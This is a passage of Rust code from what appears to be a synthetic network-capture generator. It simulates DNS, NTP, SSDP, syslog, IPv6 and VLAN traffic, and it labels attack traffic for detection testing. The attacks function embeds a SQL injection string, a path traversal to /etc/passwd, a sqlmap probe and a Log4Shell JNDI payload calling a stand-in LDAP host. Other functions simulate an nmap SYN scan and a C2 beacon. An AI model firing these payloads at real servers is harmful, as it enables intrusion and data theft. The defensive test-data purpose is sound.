            let f = icmp_echo(&link, &req_ip, src, dst, false, ident, seq, &payload);
            self.push(ts, f);
            let jitter = self.rng.range_i64(0, rtt / 10);
            let f = icmp_echo(
                &link.reversed(),
                &rep_ip,
                dst,
                src,
                true,
                ident,
                seq,
                &payload,
            );
            self.push(ts + rtt + jitter, f);
            req_ip.id = req_ip.id.wrapping_add(1);
            rep_ip.id = rep_ip.id.wrapping_add(1);
            self.counts.icmp_echo_pairs += 1;
        }
    }

    /// MX, TXT, NXDOMAIN and CNAME lookups; with `with_tc`, no special cases beyond them.
    fn extra_dns(&mut self, demo: bool) {
        let client = IpAddr::V4(self.client());
        // MX with two exchangers: their names compress against the question.
        let t = self.random_start(20);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), "example.com", rtype::MX);
        let a = q.answer(vec![
            DnsRecord::new(
                "example.com",
                3600,
                RData::Mx {
                    preference: 10,
                    exchange: "mx1.example.com".into(),
                },
            ),
            DnsRecord::new(
                "example.com",
                3600,
                RData::Mx {
                    preference: 20,
                    exchange: "mx2.example.com".into(),
                },
            ),
        ]);
        self.dns_exchange(t, client, sport, &q, &a);
        // SPF TXT.
        let t = self.random_start(20);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), "example.org", rtype::TXT);
        let a = q.answer(vec![
            DnsRecord::new(
                "example.org",
                3600,
                RData::Txt(vec![b"v=spf1 include:_spf.example.org ~all".to_vec()]),
            ),
            DnsRecord::new(
                "example.org",
                3600,
                RData::Txt(vec![b"site-verification=4f2a9c0d1e".to_vec()]),
            ),
        ]);
        self.dns_exchange(t, client, sport, &q, &a);
        // WPAD probe: NXDOMAIN with the SOA.
        let t = self.random_start(20);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), "wpad.example.lan", rtype::A);
        self.dns_exchange(t, client, sport, &q, &resolve(&q));
        // A few stand-alone lookups of CDN names (CNAME chains) and of the intranet.
        for name in [
            "static.example.com",
            "video.example.org",
            "intranet.example.com",
            "www.example.com",
        ] {
            let t = self.random_start(20);
            let c = self.client();
            self.lookup(t, c, name, true);
        }
        if demo {
            for _ in 0..3 {
                let t = self.random_start(20);
                let c = self.client();
                self.ping(t, IpAddr::V4(c), IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)), 4);
            }
        } else {
            for _ in 0..4 {
                let t = self.random_start(20);
                let c = self.client();
                self.ping(t, IpAddr::V4(c), IpAddr::V4(GATEWAY), 3);
            }
        }
    }

    /// A TXT answer too big for plain UDP: TC=1 over UDP, then the retry over TCP.
    fn dns_over_tcp(&mut self) {
        let client = IpAddr::V4(self.client());
        let t = self.random_start(30);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), "example.net", rtype::TXT);
        let mut tc = q.answer(Vec::new());
        tc.flags |= 0x0200; // TC: truncated
        let t = self.dns_exchange(t, client, sport, &q, &tc) + self.rng.range_i64(100_000, 400_000);
        let q = DnsMessage::query(self.rng.next_u16(), "example.net", rtype::TXT);
        let a = q.answer(self.big_txt("example.net"));
        let mut s = self.tcp(client, IpAddr::V4(RESOLVER), 53, t, Side::Client);
        s.handshake();
        s.client_send(&q.encode_tcp());
        s.pause(self.rng.range_i64(MS, 20 * MS));
        s.server_send(&a.encode_tcp());
        s.pause(self.rng.range_i64(100_000, 500_000));
        s.close(Side::Client);
        self.finish(s);
        self.counts.dns_tcp += 1;
    }

    /// About 1.8 KB of verification TXT strings.
    fn big_txt(&mut self, owner: &str) -> Vec<DnsRecord> {
        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
        (0..8)
            .map(|i| {
                let mut s = format!("verification-{i}=").into_bytes();
                while s.len() < 220 {
                    let c = ALPHABET
                        .get((self.rng.next_u32() % 32) as usize)
                        .copied()
                        .unwrap_or(b'a');
                    s.push(c);
                }
                DnsRecord::new(owner, 3600, RData::Txt(vec![s]))
            })
            .collect()
    }

    /// An EDNS(0) TXT answer larger than the MTU, sent as two IPv4 fragments.
    fn fragmented_dns(&mut self) {
        let client4 = self.client();
        let client = IpAddr::V4(client4);
        let t = self.random_start(20);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), "_verify.example.net", rtype::TXT)
            .with_edns(4096);
        let a = q.answer(self.big_txt("_verify.example.net"));
        let ep = Endpoints::new(client, sport, IpAddr::V4(RESOLVER), 53);
        self.udp(t, ep, &q.encode());
        let back = ep.reversed();
        let dgram = udp_datagram(&back, &a.encode());
        let ip = self.ip_params(back.src);
        let t1 = t + self.rng.range_i64(10 * MS, 40 * MS);
        let link = Self::link(back.src, back.dst);
        let frags = ipv4_fragments(&link, &ip, RESOLVER, client4, ip_proto::UDP, &dgram, 1500);
        for (i, f) in frags.into_iter().enumerate() {
            self.push(t1 + i as i64 * 14_000, f);
        }
        self.counts.dns_udp += 1;
        self.counts.fragmented_datagrams += 1;
    }

    /// A dual-stack client fetching www.example.com over IPv6 (after an AAAA lookup), and
    /// an ICMPv6 echo to it.
    fn ipv6_session(&mut self) {
        let t0 = self.random_start(40);
        let t = self.lookup(t0, Ipv4Addr::new(10, 10, 0, 11), "www.example.com", true) + 300_000;
        let s = self.tcp(
            IpAddr::V6(V6_CLIENT),
            IpAddr::V6(V6_SERVER),
            80,
            t,
            Side::Client,
        );
        let page = self.page("www.example.com", "/ipv6.html", UA_FIREFOX, 12_000);
        self.web(s, vec![page], false, Close::Fin(Side::Client), 2 * SEC);
        self.counts.ipv6_sessions += 1;
        let t = self.random_start(10);
        self.ping(t, IpAddr::V6(V6_CLIENT), IpAddr::V6(V6_SERVER), 2);
    }

    /// An HTTP status poll between two hosts of VLAN 42.
    fn vlan_session(&mut self) {
        let t = self.random_start(30);
        let (c, srv) = (IpAddr::V4(VLAN_CLIENT), IpAddr::V4(VLAN_SERVER));
        let sport = self.ephemeral(c);
        let mut cfg = TcpSessionConfig::new(
            Endpoints::new(c, sport, srv, 80),
            host_mac(c),
            host_mac(srv),
            Timestamp(t),
        );
        cfg.vlan = Some(VLAN_ID);
        cfg.pad = true;
        cfg.rtt_ns = 300_000;
        let s = TcpSession::new(cfg, &mut self.rng);
        let n = self.rng.range(400, 1200) as usize;
        let json = json_body(&mut self.rng, n);
        let req = HttpRequest::get("nas.example.lan", "/api/status", UA_CURL)
            .set_header("Accept", "application/json");
        let resp = HttpResponse::ok("application/json", json).server("lighttpd/1.4.73");
        self.web(
            s,
            vec![(req, resp)],
            false,
            Close::Fin(Side::Client),
            50 * MS,
        );
        self.counts.vlan_sessions += 1;
    }

    /// NTP, SSDP and syslog datagrams.
    fn udp_noise(&mut self) {
        // NTP client/server exchange with the resolver host.
        for _ in 0..2 {
            let c = IpAddr::V4(self.client());
            let t = self.random_start(10);
            let ep = Endpoints::new(c, 123, IpAddr::V4(RESOLVER), 123);
            let req = ntp_packet(Timestamp(t), None, &mut self.rng);
            self.udp(t, ep, &req);
            let t2 = t + self.rng.range_i64(200_000, 700_000);
            let resp = ntp_packet(
                Timestamp(t2),
                Some((
                    Timestamp(t),
                    req.get(40..48).map(<[u8]>::to_vec).unwrap_or_default(),
                )),
                &mut self.rng,
            );
            self.udp(t2, ep.reversed(), &resp);
            self.counts.udp_noise += 2;
        }
        // SSDP discovery to the multicast group (TTL 2, as UPnP stacks send it).
        let c = IpAddr::V4(self.client());
        let t = self.random_start(10);
        let sport = self.ephemeral(c);
        let group = Ipv4Addr::new(239, 255, 255, 250);
        let msearch: &[u8] = b"M-SEARCH * HTTP/1.1\r\n\
            HOST: 239.255.255.250:1900\r\n\
            MAN: \"ssdp:discover\"\r\n\
            MX: 1\r\n\
            ST: urn:dial-multiscreen-org:service:dial:1\r\n\r\n";
        for k in 0..2 {
            let ep = Endpoints::new(c, sport, IpAddr::V4(group), 1900);
            let mut ip = self.ip_params(c);
            ip.ttl = 2;
            let f = udp_frame(&Self::link(ep.src, ep.dst), &ip, &ep, msearch);
            self.push(t + k * 1_000 * MS, f);
            self.counts.udp_noise += 1;
        }
        // Syslog from the DMZ web server.
        for _ in 0..3 {
            let t = self.random_start(10);
            let src = IpAddr::V4(DMZ_WEB);
            let c = crate::calendar::civil_from_unix(Timestamp(t).secs());
            let peer = self.rng.pick(&CLIENTS).copied().unwrap_or(11);
            let size = self.rng.range(500, 9000);
            let msg = format!(
                "<134>Jan {:2} {:02}:{:02}:{:02} intranet nginx: 10.10.0.{peer} - - \
                 \"GET / HTTP/1.1\" 200 {size}",
                c.day, c.hour, c.minute, c.second,
            );
            let sport = self.ephemeral(src);
            self.udp(
                t,
                Endpoints::new(src, sport, IpAddr::V4(SYSLOG_SERVER), 514),
                msg.as_bytes(),
            );
            self.counts.udp_noise += 1;
        }
    }

    /// Four web attacks from an external host against the DMZ server.
    fn attacks(&mut self) {
        let host = "intranet.example.com";
        let attacker = IpAddr::V4(ATTACKER);
        let server = IpAddr::V4(DMZ_WEB);
        let apache = "Apache/2.4.57 (Debian)";
        let small_page = |rng: &mut Rng| html_page(rng, "Intranet", 1_800);

        const HTML: &str = "text/html; charset=UTF-8";
        const BAD_REQUEST: &[u8] = b"<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n\
            <html><head>\n<title>400 Bad Request</title>\n</head><body>\n\
            <h1>Bad Request</h1>\n</body></html>\n";
        const SQLI: &str = "/index.php?id=1%27%20OR%20%271%27=%271";
        const LOG4SHELL: &str = "${jndi:ldap://203.0.113.66:1389/Exploit}";
        const SQLMAP: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
        let reqs: Vec<(HttpRequest, HttpResponse)> = vec![
            (
                HttpRequest::get(host, SQLI, UA_FIREFOX),
                HttpResponse::ok(HTML, small_page(&mut self.rng)).server(apache),
            ),
            (
                HttpRequest::get(host, "/../../etc/passwd", UA_CURL).set_header("Accept", "*/*"),
                HttpResponse::new(
                    400,
                    "Bad Request",
                    "text/html; charset=iso-8859-1",
                    BAD_REQUEST.to_vec(),
                )
                .server(apache),
            ),
            (
                HttpRequest::get(host, "/", LOG4SHELL).set_header("Accept", "*/*"),
                HttpResponse::ok(HTML, small_page(&mut self.rng)).server(apache),
            ),
            (
                HttpRequest::get(host, "/index.php?id=1%20AND%205234%3D5234", SQLMAP)
                    .set_header("Accept", "*/*")
                    .set_header("Connection", "close"),
                HttpResponse::ok(HTML, small_page(&mut self.rng))
                    .server(apache)
                    .header("Vary", "Accept-Encoding"),
            ),
        ];
        let mut t = self.random_start(60);
        for (i, (req, resp)) in reqs.into_iter().enumerate() {
            let s = self.tcp(attacker, server, 80, t, Side::Server);
            // The exploit tool aborts its connection once it has the answer.
            let close = if i == 2 {
                Close::Rst(Side::Client)
            } else {
                Close::Fin(Side::Server)
            };
            self.web(s, vec![(req, resp)], false, close, 5 * MS);
            self.counts.http_attacks += 1;
            t += self.rng.range_i64(2 * SEC, 9 * SEC);
        }
    }

    /// An nmap-style SYN scan of 200 ports of the DMZ server, preceded by ARP.
    fn port_scan(&mut self) {
        let scanner = IpAddr::V4(SCANNER);
        let target = IpAddr::V4(DMZ_WEB);
        let smac = host_mac(scanner);
        let tmac = host_mac(target);
        let mut t = self.random_start(30);
        // ARP who-has and reply.
        let bcast = Link::new(smac, [0xff; 6]).with_padding(true);
        self.push(t, arp_frame(&bcast, 1, smac, SCANNER, [0; 6], DMZ_WEB));
        let reply = Link::new(tmac, smac).with_padding(true);
        self.push(
            t + 180_000,
            arp_frame(&reply, 2, tmac, DMZ_WEB, smac, SCANNER),
        );
        self.counts.arp_pairs += 1;
        t += 400_000;

        let ports = scan_ports(&mut self.rng);
        let sport = self.rng.range(40_000, 65_000) as u16;
        let fwd = Link::new(smac, tmac).with_padding(true);
        let rev = fwd.reversed();
        let mss = [2u8, 4, 0x05, 0xb4];
        for port in ports {
            let ep = Endpoints::new(scanner, sport, target, port);
            let seq = self.rng.next_u32();
            // nmap's raw SYN: random TTL 37..59, random IP id, no DF, window 1024, MSS only.
            let ip = IpParams {
                ttl: self.rng.range(37, 59) as u8,
                id: self.rng.next_u16(),
                dont_fragment: false,
                tos: 0,
                flow_label: 0,
            };
            let syn = TcpHeader {
                seq,
                ack: 0,
                flags: tcp_flags::SYN,
                window: 1024,
                urgent: 0,
                options: &mss,
            };
            self.push(t, tcp_frame(&fwd, &ip, &ep, &syn, &[]));
            let rt = t + self.rng.range_i64(90_000, 400_000);
            let tip = IpParams {
                ttl: 64,
                id: 0,
                dont_fragment: true,
                tos: 0,
                flow_label: 0,
            };
            if SCAN_OPEN_PORTS.contains(&port) {
                let isn = self.rng.next_u32();
                let opts = [2u8, 4, 0x05, 0xb4];
                let sa = TcpHeader {
                    seq: isn,
                    ack: seq.wrapping_add(1),
                    flags: tcp_flags::SYN | tcp_flags::ACK,
                    window: 64_240,
                    urgent: 0,
                    options: &opts,
                };
                self.push(rt, tcp_frame(&rev, &tip, &ep.reversed(), &sa, &[]));
                // The scanner's kernel knows no such connection and resets it.
                let rst = TcpHeader {
                    seq: seq.wrapping_add(1),
                    ack: 0,
                    flags: tcp_flags::RST,
                    window: 0,
                    urgent: 0,
                    options: &[],
                };
                let kip = IpParams {
                    ttl: 64,
                    id: 0,
                    dont_fragment: true,
                    tos: 0,
                    flow_label: 0,
                };
                let kt = rt + self.rng.range_i64(20_000, 60_000);
                self.push(kt, tcp_frame(&fwd, &kip, &ep, &rst, &[]));
            } else {
                let ra = TcpHeader {
                    seq: 0,
                    ack: seq.wrapping_add(1),
                    flags: tcp_flags::RST | tcp_flags::ACK,
                    window: 0,
                    urgent: 0,
                    options: &[],
                };
                self.push(rt, tcp_frame(&rev, &tip, &ep.reversed(), &ra, &[]));
            }
            self.counts.scan_ports += 1;
            t += self.rng.range_i64(2 * MS, 12 * MS);
        }
    }

    /// An HTTP GET from the infected host to its C2 every 30 s ± 1.5 s, one connection each.
    fn beacon(&mut self) {
        let host = "cdn-status.example.net";
        let mut t = self.start + self.rng.range_i64(3 * SEC, 10 * SEC);
        let t_dns = self.lookup(t, BEACON_HOST, host, false);
        t = t_dns + 400_000;
        let uid = format!("{:08x}", self.rng.next_u32());
        while t < self.start + (DEMO_DURATION_SECS - 5) * SEC {
            let s = self.tcp(
                IpAddr::V4(BEACON_HOST),
                IpAddr::V4(BEACON_C2),
                80,
                t,
                Side::Client,
            );
            let req = HttpRequest {
                method: "GET".into(),
                target: format!("/api/v2/ping?uid={uid}&s={}", self.counts.beacons),
                headers: vec![
                    ("Host".into(), host.into()),
                    (
                        "User-Agent".into(),
                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)".into(),
                    ),
                    ("Accept".into(), "*/*".into()),
                    ("Connection".into(), "close".into()),
                ],
                body: Vec::new(),
            };
            let mut resp = HttpResponse::ok(
                "application/json",
                br#"{"cmd":"sleep","interval":30}"#.to_vec(),
            );
            resp.headers = vec![
                ("Cache-Control".into(), "no-store".into()),
                ("Connection".into(), "close".into()),
            ];
            self.web(s, vec![(req, resp)], false, Close::Fin(Side::Server), MS);
            self.counts.beacons += 1;
            t += 30 * SEC + self.rng.range_i64(-1_500 * MS, 1_500 * MS);
        }
    }
}

/// The 200 ports of the scan: nmap's most common ones first, then random others, shuffled.
fn scan_ports(rng: &mut Rng) -> Vec<u16> {
    const TOP: [u16; 60] = [
        21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 113, 119, 135, 139, 143, 179, 199, 389, 443, 445,
        465, 514, 515, 548, 554, 587, 631, 636, 646, 873, 990, 993, 995, 1025, 1026, 1433, 1521,
        1723, 1900, 2000, 2049, 2121, 3000, 3306, 3389, 5060, 5432, 5900, 5985, 6000, 6379, 8000,
        8008, 8080, 8443, 8888, 9000, 9090, 9200, 10000,
    ];
    let mut set: BTreeSet<u16> = TOP.iter().copied().collect();
    while set.len() < SCAN_PORT_COUNT {
        set.insert(rng.range(1, 10_000) as u16);
    }
    let mut ports: Vec<u16> = set.into_iter().collect();
    // Fisher-Yates, as nmap randomises probe order.
    for i in (1..ports.len()).rev() {
        let j = rng.range(0, i as u64) as usize;
        ports.swap(i, j);
    }
    ports
}

/// Seconds between the NTP era (1900) and the Unix epoch.
const NTP_UNIX_OFFSET: u64 = 2_208_988_800;

fn ntp_timestamp(ts: Timestamp) -> [u8; 8] {
    let secs = (ts.secs() as u64).wrapping_add(NTP_UNIX_OFFSET) as u32;
    let frac = ((u64::from(ts.subsec_nanos()) << 32) / 1_000_000_000) as u32;
    let mut b = [0u8; 8];
    b[..4].copy_from_slice(&secs.to_be_bytes());
    b[4..].copy_from_slice(&frac.to_be_bytes());
    b
}

/// An NTPv4 client request, or (with `reply_to` = request time and its transmit stamp) the
/// server's reply.
fn ntp_packet(now: Timestamp, reply_to: Option<(Timestamp, Vec<u8>)>, rng: &mut Rng) -> Vec<u8> {
    let mut p = vec![0u8; 48];
    match reply_to {
        None => {
            p[0] = 0x23; // LI 0, version 4, mode 3 (client)
            p[2] = 6; // poll 64 s
            p[3] = 0xe9; // precision 2^-23
                         // Transmit timestamp; real clients randomise the low bits for privacy.
            let mut tx = ntp_timestamp(now);
            tx[7] = rng.next_u16() as u8;
            p[40..48].copy_from_slice(&tx);
        }
        Some((req_time, origin)) => {
            p[0] = 0x24; // LI 0, version 4, mode 4 (server)
            p[1] = 2; // stratum 2
            p[2] = 6;
            p[3] = 0xe8;
            p[4..8].copy_from_slice(&0x0000_0120u32.to_be_bytes()); // root delay
            p[8..12].copy_from_slice(&0x0000_0340u32.to_be_bytes()); // root dispersion
            p[12..16].copy_from_slice(&[192, 0, 2, 123]); // reference id: upstream server
            p[16..24].copy_from_slice(&ntp_timestamp(Timestamp(now.0 - 37 * SEC)));
            if origin.len() == 8 {
                p[24..32].copy_from_slice(&origin);
            }
            let rx = Timestamp(req_time.0 + (now.0 - req_time.0) / 3);
            p[32..40].copy_from_slice(&ntp_timestamp(rx));
            p[40..48].copy_from_slice(&ntp_timestamp(Timestamp(now.0 - 20_000)));
        }
    }
    p
}
